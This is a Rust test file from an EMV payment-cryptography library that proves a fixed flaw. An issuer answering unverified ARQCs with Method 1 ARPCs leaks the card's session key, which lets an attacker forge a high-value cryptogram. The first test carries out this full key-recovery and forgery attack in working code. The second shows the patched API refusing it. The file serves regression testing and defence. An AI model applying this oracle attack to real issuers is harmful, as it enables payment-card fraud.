//! Issue 13, the key-recovery attack: an ARPC for an unverified ARQC.
//!
//! For Mastercard CVN 16/17 the ARPC (Method 1) is `E_MK(ARQC ⊕ ARC‖0…)`
//! under the ICC master key, and the AC session key is
//! `E_MK(ATC‖F0‖00‖UN) ‖ E_MK(ATC‖0F‖00‖UN)` under the same key. An issuer
//! that answers a failed ARQC with a decline ARPC therefore encrypts two
//! blocks of the attacker's choice: the session key for any ATC/UN, and
//! then a forged ARQC for any amount that verifies.
//!
//! `attack_is_real` runs the attack through `hazmat` (what the old public
//! `TransactionKeys::arpc` did) and shows the forgery verifies, so this file
//! can fail. `safe_issuer_gives_the_attacker_nothing` runs the same messages
//! against the only issuer the public API lets one write: no ARPC without a
//! verified ARQC, and a relabelled CVN is refused.
#![cfg(feature = "hazmat")]

use tapcrypt::emv::tlv::AuthorisationRequest;
use tapcrypt::emv::{
    Arpc, ArpcResponse, Atc, Cryptogram, Cvn, MASTERCARD_CVN_16, MASTERCARD_CVN_20, ResponseCode,
    TransactionData, UnpredictableNumber,
};
use tapcrypt::mac::Padding;
use tapcrypt::{Algorithm, Error, IssuerMasterKey, Pan, Psn, SessionKey};

const DECLINE: ResponseCode = ResponseCode(*b"05");
const CVR: [u8; 6] = [0xA0, 0x00, 0x00, 0x00, 0x00, 0x00];

fn imk() -> IssuerMasterKey {
    IssuerMasterKey::from_hex(Algorithm::Tdes2, "9E15204313F7318ACB79B90BD986AD29").unwrap()
}

fn pan() -> Pan {
    Pan::parse("5413330089600010").unwrap()
}

fn txn(atc: u16, un: [u8; 4], amount: [u8; 6]) -> TransactionData {
    TransactionData {
        amount_authorised: amount,
        terminal_country: [0x08, 0x26],
        currency: [0x08, 0x26],
        date: [0x26, 0x12, 0x02],
        un: UnpredictableNumber(un),
        aip: [0x19, 0x80],
        atc: Atc::from_u16(atc),
        ..TransactionData::default()
    }
}

fn tlv(tag: &[u8], v: &[u8]) -> Vec<u8> {
    [tag, &[v.len() as u8], v].concat()
}

/// Field 55 as a terminal would send it, with `cvn_byte` in the IAD.
fn field55(t: &TransactionData, cvn_byte: u8, ac: &Cryptogram) -> Vec<u8> {
    let iad = [&[0x01, cvn_byte][..], &CVR, &[0, 0], &[0; 8]].concat();
    let mut body = Vec::new();
    for (tag, v) in [
        (&[0x9F, 0x02][..], &t.amount_authorised[..]),
        (&[0x9F, 0x03], &t.amount_other),
        (&[0x9F, 0x1A], &t.terminal_country),
        (&[0x95], &t.tvr),
        (&[0x5F, 0x2A], &t.currency),
        (&[0x9A], &t.date),
        (&[0x9C], &[t.transaction_type]),
        (&[0x9F, 0x37], &t.un.0),
        (&[0x82], &t.aip),
        (&[0x9F, 0x36], &t.atc.0),
        (&[0x9F, 0x10], &iad),
        (&[0x9F, 0x27], &[0x80]),
        (&[0x9F, 0x26], &ac.0),
    ] {
        body.extend(tlv(tag, v));
    }
    tlv(&[0x77], &body)
}

/// The two blocks whose encryptions under the ICC MK are the Mastercard SKD
/// session key for (ATC, UN), as ARQCs that a Method 1 ARPC with ARC `arc`
/// turns back into those blocks.
fn chosen_arqcs(atc: u16, un: [u8; 4], arc: ResponseCode) -> [Cryptogram; 2] {
    let mut blocks = [[0u8; 8]; 2];
    for (b, tag) in blocks.iter_mut().zip([0xF0, 0x0F]) {
        b[..2].copy_from_slice(&atc.to_be_bytes());
        b[2] = tag;
        b[4..].copy_from_slice(&un);
        b[0] ^= arc.0[0];
        b[1] ^= arc.0[1];
    }
    blocks.map(Cryptogram)
}

/// The attacker's forgery: a 9,999.99 ARQC for (ATC, UN) under a session
/// key learnt from two ARPCs.
fn forge(arpc_l: [u8; 8], arpc_r: [u8; 8], t: &TransactionData) -> Cryptogram {
    let sk = SessionKey::new(Algorithm::Tdes2, &[arpc_l, arpc_r].concat()).unwrap();
    let data = [&t.to_bytes()[..], &CVR].concat();
    tapcrypt::hazmat::mac_cryptogram(&sk, &data, Padding::Method2).unwrap()
}

/// Does the issuer accept `ac` for `t` on the MC CVN 16 card?
fn issuer_accepts(t: &TransactionData, ac: &Cryptogram) -> bool {
    let msg = field55(t, 0x10, ac);
    let req = AuthorisationRequest::parse(&msg, &MASTERCARD_CVN_16).unwrap();
    let mk = MASTERCARD_CVN_16
        .derive_card_key(&imk(), &pan(), Psn::ABSENT)
        .unwrap();
    let keys = req.transaction_keys(&mk).unwrap();
    req.verify(&keys).is_ok()
}

const BIG: [u8; 6] = [0x00, 0x00, 0x00, 0x99, 0x99, 0x99];
const ATC: u16 = 0x0BAD;
const UN: [u8; 4] = [0xDE, 0xAD, 0xBE, 0xEF];

#[test]
fn attack_is_real() {
    // An issuer that answers every ARQC, verified or not (the old API).
    let mk = MASTERCARD_CVN_16
        .derive_card_key(&imk(), &pan(), Psn::ABSENT)
        .unwrap();
    let oracle = |arqc: &Cryptogram| -> [u8; 8] {
        let t = txn(1, [0; 4], [0; 6]);
        let keys = MASTERCARD_CVN_16
            .transaction_keys(&mk, t.atc, t.un)
            .unwrap();
        let resp = ArpcResponse::Method1 { arc: DECLINE };
        match tapcrypt::hazmat::arpc_unverified(&keys, arqc, &resp).unwrap() {
            Arpc::Method1(a) => a,
            Arpc::Method2(_) => unreachable!(),
        }
    };
    let [q1, q2] = chosen_arqcs(ATC, UN, DECLINE);
    let forged = forge(oracle(&q1), oracle(&q2), &txn(ATC, UN, BIG));
    assert!(
        issuer_accepts(&txn(ATC, UN, BIG), &forged),
        "two decline ARPCs must recover the session key (the attack this API closes)"
    );
}

/// The only issuer the public API lets one write: ARPC from the proof.
fn safe_issuer(msg: &[u8], pinned: &'static Cvn) -> Result<Option<Arpc>, Error> {
    let req = AuthorisationRequest::parse(msg, pinned)?;
    let mk = pinned.derive_card_key(&imk(), &pan(), Psn::ABSENT)?;
    let keys = req.transaction_keys(&mk)?;
    Ok(match req.verify(&keys) {
        Ok(verified) => Some(verified.arpc(&ArpcResponse::Method1 { arc: DECLINE })?),
        Err(_) => None, // nothing to answer with: no proof, no ARPC
    })
}

#[test]
fn safe_issuer_gives_the_attacker_nothing() {
    let t = txn(1, [0; 4], [0; 6]);
    for q in chosen_arqcs(ATC, UN, DECLINE) {
        let msg = field55(&t, 0x10, &q);
        assert_eq!(safe_issuer(&msg, &MASTERCARD_CVN_16).unwrap(), None);
    }
    // A genuine ARQC still gets its ARPC.
    let mk = MASTERCARD_CVN_16
        .derive_card_key(&imk(), &pan(), Psn::ABSENT)
        .unwrap();
    let keys = MASTERCARD_CVN_16
        .transaction_keys(&mk, t.atc, t.un)
        .unwrap();
    let cd = MASTERCARD_CVN_16.card_data(&CVR).unwrap();
    let genuine = keys.generate_ac(&t, &cd).unwrap();
    assert!(matches!(
        safe_issuer(&field55(&t, 0x10, &genuine), &MASTERCARD_CVN_16),
        Ok(Some(Arpc::Method1(_)))
    ));
    // Item 2: a CVN 20 card's message relabelled as CVN 16 (to reach the
    // card-key ARPC) is refused by the pinned profile, before any key.
    let relabelled = field55(&t, 0x10, &chosen_arqcs(ATC, UN, DECLINE)[0]);
    assert_eq!(
        safe_issuer(&relabelled, &MASTERCARD_CVN_20).unwrap_err(),
        Error::CvnMismatch {
            pinned: 0x14,
            declared: 0x10
        }
    );
}
